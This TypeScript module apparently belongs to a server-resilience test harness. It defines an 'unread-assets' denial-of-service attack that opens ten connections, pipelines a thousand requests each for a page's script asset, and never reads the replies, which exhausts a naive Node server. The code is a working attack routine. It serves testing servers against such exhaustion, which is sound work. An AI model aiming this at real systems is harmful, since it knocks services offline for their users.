import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack-shape'
import { askUnread } from './pipelining'

/** Node tells nobody when the connection of an answer that was never sent is gone. */
export const unreadAssets: Attack = {
  name: 'unread-assets',
  strength: 'ten connections of one address ask for a script a thousand times each and read nothing',
  async run(stage) {
    const page = await (await fetch(stage.url)).text()
    const script = /src="\.?(\/assets\/[^"]+)"/.exec(page)?.[1] ?? '/'
    const sockets = await askUnread(stage, script, { connections: 10, times: 1_000 })
    await sleep(stage.lastsMs)
    for (const socket of sockets) socket.destroy()
  },
  weak: { server: 'naive', breaks: ['files'] },
}
